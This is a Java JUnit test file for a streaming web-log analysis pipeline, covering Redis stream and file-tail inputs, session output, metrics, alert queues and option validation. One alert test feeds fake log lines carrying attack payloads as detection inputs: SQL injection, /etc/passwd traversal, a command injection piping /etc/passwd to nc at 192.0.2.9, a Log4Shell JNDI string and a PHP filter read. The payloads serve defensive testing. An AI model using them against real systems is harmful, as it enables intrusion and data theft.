package dev.spoor.pipeline;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.hamcrest.MatcherAssert.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.everyItem;
import static org.hamcrest.Matchers.hasEntry;
import static org.hamcrest.Matchers.is;
import static org.junit.Assert.assertThrows;
import static org.junit.Assume.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.spoor.fixtures.runs.LiveOutput;
import dev.spoor.fixtures.runs.Worker;
import dev.spoor.fixtures.servers.RedisServer;
import dev.spoor.model.Progress;
import java.io.IOException;
import java.io.InputStream;
import java.io.PrintStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.SortedSet;
import java.util.TreeSet;
import java.util.concurrent.locks.LockSupport;
import java.util.stream.Stream;
import org.apache.beam.runners.direct.DirectOptions;
import org.junit.Rule;
import org.junit.Test;
import org.junit.rules.TemporaryFolder;

/** Live runs on the DirectRunner; the same on Flink is an integration test. */
public class LiveJobTest {
  @Rule public final TemporaryFolder folder = new TemporaryFolder();

  /** Silence is taken for the end sooner than usual. */
  private static final String SOON = "&idleAfter=1s&leftOutAfter=3s";

  private static final Console SILENT =
      new Console(
          InputStream.nullInputStream(),
          new PrintStream(PrintStream.nullOutputStream(), false, UTF_8),
          new PrintStream(PrintStream.nullOutputStream(), false, UTF_8),
          Map.of(),
          0);

  private static AnalyzeOptions options(String... arguments) {
    List<String> all = new ArrayList<>(List.of(arguments));
    all.add("--quiet");
    AnalyzeOptions options = CommandLine.analyze(all, Map.of());
    // As the profile of the runner would have it, which is not here.
    options.as(DirectOptions.class).setBlockOnRun(false);
    return options;
  }

  @Test
  public void messagesOfAStreamBecomeFiles() throws Exception {
    Optional<RedisServer> started = RedisServer.start(folder.newFolder("redis").toPath());
    assumeTrue("no redis-server", started.isPresent());
    Path output = folder.newFolder("out").toPath();
    try (RedisServer redis = started.get()) {
      LiveOutput expected = LiveOutput.feed(redis);
      Progress.reset();
      AnalyzeOptions options =
          options(
              "--input=" + redis.uri("redis-stream") + "/sessions_stream?consumer=w/1" + SOON,
              "--input=" + redis.uri("redis-stream") + "/weblogs?format=combined&group=g" + SOON,
              "--output=" + output,
              "--gap=1s",
              "--earlyFirings=1s");
      try (LiveJob job = LiveJob.start(options, SILENT)) {
        expected.await(output);
        assertThat(job.hasEnded(), is(false));
        try (Stream<Path> files = Files.walk(output.resolve("sessions"))) {
          assertThat(
              files
                  .filter(Files::isRegularFile)
                  .map(each -> each.getFileName().toString())
                  .toList(),
              everyItem(containsString("Z-w_1-")));
        }
        Map<String, Long> metrics = job.values(options, List.of());
        assertThat(
            "not on the list",
            metrics.keySet().stream().filter(each -> MetricName.parse(each) == null).toList(),
            is(List.of()));
        assertThat(metrics, hasEntry("lines_read", 45L));
        assertThat(metrics, hasEntry("dead_letters.normalize.bad_json", 1L));
        assertThat(metrics, hasEntry("sessions_open", 0L));
      }
      expected.check(output);
    }
  }

  @Test
  public void alertsGoToFilesAndQueuesAlike() throws Exception {
    Optional<RedisServer> started = RedisServer.start(folder.newFolder("redis").toPath());
    assumeTrue("no redis-server", started.isPresent());
    Path output = folder.newFolder("out").toPath();
    try (RedisServer redis = started.get()) {
      String[] attacks = {
        "/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
        "/?file=../../../../etc/passwd",
        "/?cmd=;cat%20/etc/passwd|nc%20192.0.2.9%204444",
        "/?x=${jndi:ldap://192.0.2.9/a}",
        "/?page=php://filter/convert.base64-encode/resource=index.php",
      };
      for (int i = 0; i < 40; i++) {
        redis.command(
            "XADD",
            "weblogs",
            "*",
            "line",
            "203.0.113.7 - - [03/Mar/2025:10:15:%02d +0000] \"GET %s HTTP/1.1\" 200 5 \"-\" \"sqlmap/1.5\""
                .formatted(i, attacks[i % attacks.length]));
      }
      String stream = redis.uri("redis-stream");
      try (LiveJob job =
          LiveJob.start(
              options(
                  "--input=" + stream + "/weblogs?format=combined&group=g" + SOON,
                  "--alerts=" + stream + "/alerts?maxLength=100," + stream + "/copies",
                  "--output=" + output,
                  "--gap=20s",
                  "--earlyFirings=1s"),
              SILENT)) {
        long end = System.nanoTime() + Duration.ofMinutes(2).toNanos();
        // The settled alert is a client's last. A file is finished some time after a message is
        // sent,
        // so that one in the queues is no sign yet that the files hold all that went before.
        while (!(settled(redis.command("XRANGE", "alerts", "-", "+"))
            && settled(redis.command("XRANGE", "copies", "-", "+"))
            && redis.command("XLEN", "alerts").equals(String.valueOf(alerts(output).size())))) {
          assertThat("waited for an alert", System.nanoTime() < end, is(true));
          assertThat(job.hasEnded(), is(false));
          LockSupport.parkNanos(Duration.ofMillis(100).toNanos());
        }
      }
      List<String> expected = alerts(output);
      for (String each : List.of("alerts", "copies")) {
        String messages = redis.command("XRANGE", each, "-", "+");
        assertThat(redis.command("XLEN", each), is(String.valueOf(expected.size())));
        for (String alert : expected) {
          assertThat(messages, containsString(" data " + alert));
        }
      }
    }
  }

  private static boolean settled(String alerts) {
    return alerts.contains("\"settled\"");
  }

  private static List<String> alerts(Path output) throws IOException {
    List<String> lines = new ArrayList<>();
    try (Stream<Path> files = Files.walk(output)) {
      for (Path file :
          files.filter(each -> each.getFileName().toString().startsWith("alerts-")).toList()) {
        lines.addAll(Files.readAllLines(file));
      }
    }
    return lines;
  }

  @Test
  public void linesOfAGrowingFileBecomeFilesAndANewStartGoesOn() throws Exception {
    Path log = folder.getRoot().toPath().resolve("access.log");
    Path output = folder.newFolder("out").toPath();
    String[] arguments = {
      "--input=file-tail://" + log + "?idleAfter=1s&leftOutAfter=1s",
      "--output=" + output,
      "--gap=10s"
    };
    try (LiveJob job = LiveJob.start(options(arguments), SILENT)) {
      append(log, line(1, 0) + line(2, 1) + "no request at all\n" + line(1, 2).substring(0, 20));
      await(job, () -> LiveOutput.lines(output, "sessions").size() >= 2);
      assertThat(
          assertThrows(IOException.class, () -> LiveJob.start(options(arguments), SILENT))
              .getMessage(),
          containsString("another run follows file-tail://" + log));
      append(log, line(1, 2).substring(20));
      Files.move(log, log.resolveSibling("access.log.1"));
      append(log, line(3, 100));
      await(job, () -> LiveOutput.lines(output, "sessions").size() >= 4);
    }
    try (Stream<Path> files = Files.list(output)) {
      Path state =
          files.filter(each -> each.toString().endsWith(".json")).findFirst().orElseThrow();
      byte[] kept = Files.readAllBytes(state);
      Files.writeString(state, "{\"logs\":[{\"pa");
      assertThat(
          assertThrows(IOException.class, () -> LiveJob.start(options(arguments), SILENT))
              .getMessage(),
          is(state + " does not say how far logs were read: delete it to begin anew"));
      Files.write(state, kept);
    }
    try (LiveJob job = LiveJob.start(options(arguments), SILENT)) {
      append(log, line(4, 200));
      await(job, () -> clients(output).contains("203.0.113.4 1 2025-03-03T10:03:20Z"));
    }
    assertThat(
        clients(output),
        is(
            new TreeSet<>(
                List.of(
                    "203.0.113.1 2 2025-03-03T10:00:00Z",
                    "203.0.113.2 1 2025-03-03T10:00:01Z",
                    "203.0.113.3 1 2025-03-03T10:01:40Z",
                    "203.0.113.4 1 2025-03-03T10:03:20Z"))));
    JsonNode origin = LiveOutput.lines(output, "dead-letters").get(0).path("origin");
    assertThat(origin.path("source").asText(), is(log.toString()));
    assertThat(origin.path("position").asInt(), is(line(1, 0).length() + line(2, 1).length()));
  }

  private static String line(int client, int second) {
    return "203.0.113.%d - - [03/Mar/2025:10:%02d:%02d +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \"agent\"\n"
        .formatted(client, second / 60, second % 60);
  }

  private static void append(Path file, String text) throws IOException {
    Files.writeString(file, text, StandardOpenOption.CREATE, StandardOpenOption.APPEND);
  }

  private static void await(LiveJob job, Worker.Condition condition) throws IOException {
    long end = System.nanoTime() + Duration.ofMinutes(2).toNanos();
    while (!condition.holds()) {
      assertThat("waited in vain", System.nanoTime() < end, is(true));
      assertThat(job.hasEnded(), is(false));
      LockSupport.parkNanos(Duration.ofMillis(100).toNanos());
    }
  }

  /** The newest version of each session: client, requests and start. */
  private static SortedSet<String> clients(Path output) throws IOException {
    Map<String, JsonNode> newest = new HashMap<>();
    for (JsonNode session : LiveOutput.lines(output, "sessions")) {
      newest.merge(
          session.path("sess_uuid").asText(),
          session,
          (a, b) -> b.path("request_count").asInt() >= a.path("request_count").asInt() ? b : a);
    }
    SortedSet<String> clients = new TreeSet<>();
    for (JsonNode session : newest.values()) {
      clients.add(
          session.path("peer_ip").asText()
              + " "
              + session.path("request_count").asText()
              + " "
              + session.path("start_time").asText());
    }
    return clients;
  }

  @Test
  public void refusesWhatDoesNotGoTogether() {
    String queue = "--input=kafka://broker.example/t";
    String[][] cases = {
      {queue, "--input=access.log", "--output=out", "ends, and a queue does not"},
      {queue, "--output=gs://bucket/out", "is not local"},
      {queue, "--output=out", "--outputFormat=json", "needs an input that ends"},
      {queue, "--output=out", "--alerts=" + queue.substring(8), "--detect=false", "--alerts needs"},
    };
    for (String[] each : cases) {
      String[] arguments = java.util.Arrays.copyOf(each, each.length - 1);
      UsageException e = assertThrows(each[1], UsageException.class, () -> options(arguments));
      assertThat(e.getMessage(), containsString(each[each.length - 1]));
    }
    String[][] atStart = {
      {"redis-stream://a.example/one/two", "one stream"},
      {"kafka://a.example/t?fromat=x", "fromat="},
      {"kafka://a.example/t?format=nothing", "nothing"},
      {"kafka://u:p@a.example/t", "passwordFile="},
      {"file-tail://var/log/access.log", "three slashes"},
      {"file-tail:///var/log/access.log?start=first", "start=first"},
    };
    for (String[] each : atStart) {
      AnalyzeOptions options = options("--input=" + each[0], "--output=" + folder.getRoot());
      UsageException e =
          assertThrows(each[0], UsageException.class, () -> LiveJob.start(options, SILENT));
      assertThat(e.getMessage(), containsString(each[1]));
    }
    String[][] sinks = {
      {"--sessions=jdbc:oracle://u@db.example/d", "--sessions: jdbc:oracle: only"},
      {"--sessions=out.db", "--sessions: a URI such as"},
      {"--alerts=redis://a.example", "--alerts: redis://a.example is neither kafka://"},
      {"--alerts=kafka://a.example/t,kafka://a.example/t?patience=x", "--alerts: patience=x"},
      {"--alerts=redis-stream://a.example/t?maxLength=0", "--alerts: maxLength=0"},
    };
    for (String[] each : sinks) {
      AnalyzeOptions options = options(queue, "--output=" + folder.getRoot(), each[0]);
      UsageException e =
          assertThrows(each[0], UsageException.class, () -> LiveJob.start(options, SILENT));
      assertThat(e.getMessage(), containsString(each[1]));
    }
  }
}
